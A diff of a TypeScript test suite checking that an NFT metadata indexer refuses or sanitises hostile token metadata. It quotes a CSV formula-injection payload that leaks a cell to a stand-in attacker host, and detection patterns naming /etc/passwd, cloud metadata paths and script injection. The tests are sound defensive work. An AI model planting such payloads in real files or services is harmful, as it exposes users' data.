@@ -37,7 +37,7 @@ const read = async (): Promise<(HostileToken & Data)[]> => {
 const tokens = await read();
 const of = (kind: string) => tokens.find((token) => token.kind === kind);
 
-/** What has no document at all, with what the reason has to name. */
+/** Tokens without a document, with a pattern of the stated reason. */
 const refused: readonly (readonly [kind: string, reason: RegExp])[] = [
   ["huge", /too large/],
   ["slow", /within 3000 ms/],
@@ -67,50 +67,49 @@ const refused: readonly (readonly [kind: string, reason: RegExp])[] = [
   ["no-text", /./],
 ];
 
-/** What has a document that is told without what could harm. */
-const leftOut: readonly (readonly [kind: string, reason: RegExp])[] = [
+/** Tokens whose document is served without its harmful parts. */
+const sanitized: readonly (readonly [kind: string, reason: RegExp])[] = [
   ["many-attributes", /attributes/],
   ["script-in-picture", /image/],
   ["script-in-plain-picture", /image/],
   ["javascript-links", /image.*animation_url.*external_url/],
 ];
 
-describe("tokens whose metadata mean harm", () => {
-  it("are all of the story's, and each is read or refused", () => {
+describe("tokens with hostile metadata", () => {
+  it("are all listed, each with a document or a reason for its refusal", () => {
     expect(tokens.map(({ token_id: id }) => Number(id))).toEqual(hostileTokens.map((_, index) => index + 1));
     expect(tokens.filter((token) => token.external_data === null && token.metadata_refusal === null)).toEqual([]);
   });
 
-  it.each(refused)("%s is refused with a reason that is shown", (kind, reason) => {
+  it.each(refused)("refuses %s and states the reason", (kind, reason) => {
     const token = of(kind);
     expect(token?.external_data, token?.metadata_refusal ?? "").toBeNull();
     expect(token?.asset_cached).toBe(false);
     expect(token?.metadata_refusal).toMatch(reason);
-    // Nothing of the operator's machine: neither paths nor the ports of the gateway.
+    // No local paths or addresses.
     expect(token?.metadata_refusal).not.toMatch(/node_modules|\.ts\b|private\.json|latest\/meta-data|etc\/passwd/);
   });
 
-  it.each(leftOut)("%s is told without what could harm, and says what was left out", (kind, reason) => {
+  it.each(sanitized)("serves %s without its harmful parts and names them", (kind, reason) => {
     const token = of(kind);
     expect(token?.external_data).not.toBeNull();
     expect(token?.metadata_refusal).toMatch(reason);
     expect(JSON.stringify(token?.external_data)).not.toMatch(/<script|javascript:|onload|foreignObject|text\/html/i);
   });
 
-  it("leave every sheep between them served, without a reason", () => {
-    const flock = tokens.filter(({ kind }) => kind === "sheep");
-    expect(flock.length).toBeGreaterThan(10);
-    flock.forEach((sheep, index) => {
-      expect(sheep.external_data?.name).toBe(`Sheep ${index + 1}`);
-      expect(sheep.external_data?.attributes).toEqual([{ trait_type: "Wool", value: ["Thick", "Thin"][(index + 1) % 2] }]);
-      expect([sheep.asset_cached, sheep.metadata_refusal]).toEqual([true, null]);
+  it("serves the harmless tokens between them", () => {
+    const harmless = tokens.filter(({ kind }) => kind === "harmless");
+    expect(harmless.length).toBeGreaterThan(10);
+    harmless.forEach((token, index) => {
+      expect(token.external_data?.name).toBe(`Sheep ${index + 1}`);
+      expect(token.external_data?.attributes).toEqual([{ trait_type: "Wool", value: ["Thick", "Thin"][(index + 1) % 2] }]);
+      expect([token.asset_cached, token.metadata_refusal]).toEqual([true, null]);
     });
   });
 
-  it("have texts that neither a terminal nor a database stumbles over", () => {
+  it("contain no control characters, bidirectional marks or lone surrogates", () => {
     for (const { external_data: data, kind } of tokens) {
       const texts = [data?.name, data?.description, ...(data?.attributes ?? []).flatMap(({ trait_type, value }) => [trait_type, value])];
-      // Control characters, marks that turn the direction of text, halves of characters.
       for (const text of texts) expect(text ?? "", kind).not.toMatch(/(?![\n\t])\p{Cc}|\p{Bidi_Control}|\p{Surrogate}/u);
     }
     const names = of("names-of-other-types")?.external_data;
@@ -120,7 +119,7 @@ describe("tokens whose metadata mean harm", () => {
     expect(absurd).toContainEqual({ trait_type: "Number", value: "123456789012345678901234567890" });
   });
 
-  it("are told as text in a table, and not as a formula", async () => {
+  it("are escaped in CSV, so that spreadsheets do not evaluate formulas", async () => {
     expect(of("formula")?.external_data?.name).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
     const { text } = await call(`/v1/demo/nft/${collection}/metadata/?page-size=1000&format=csv`);
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
@@ -131,7 +130,7 @@ describe("tokens whose metadata mean harm", () => {
     ).toEqual([]);
   });
 
-  it("brought nobody to the address on this machine that they lead to", async () => {
+  it("cause no connection to the local address that they point to", async () => {
     expect(await (await fetch(app.trapUrl)).text()).toBe("0");
   });
 
@@ -153,11 +152,11 @@ describe("tokens whose metadata mean harm", () => {
     const folder = await mkdtemp(join(tmpdir(), "ashlar-status-"));
     try {
       await writeFile(join(folder, "ashlar.yaml"), "chains: [{ name: demo, id: 31337 }]\n");
-      const [code, said] = await commandLineIn(() => ({ folder, url: app.databaseUrl })).outcome(["nfts", "status"]);
-      expect(code, said).toBe(0);
+      const [code, output] = await commandLineIn(() => ({ folder, url: app.databaseUrl })).outcome(["nfts", "status"]);
+      expect(code, output).toBe(0);
       const refusals = tokens.filter(({ external_data: data }) => data === null).length;
-      expect(said).toMatch(new RegExp(`${collection}  0 wait .*${refusals} refused`));
-      expect(said).toContain("refused: ");
+      expect(output).toMatch(new RegExp(`${collection}  0 wait .*${refusals} refused`));
+      expect(output).toContain("refused: ");
     } finally {
       await rm(folder, { recursive: true, force: true });
     }
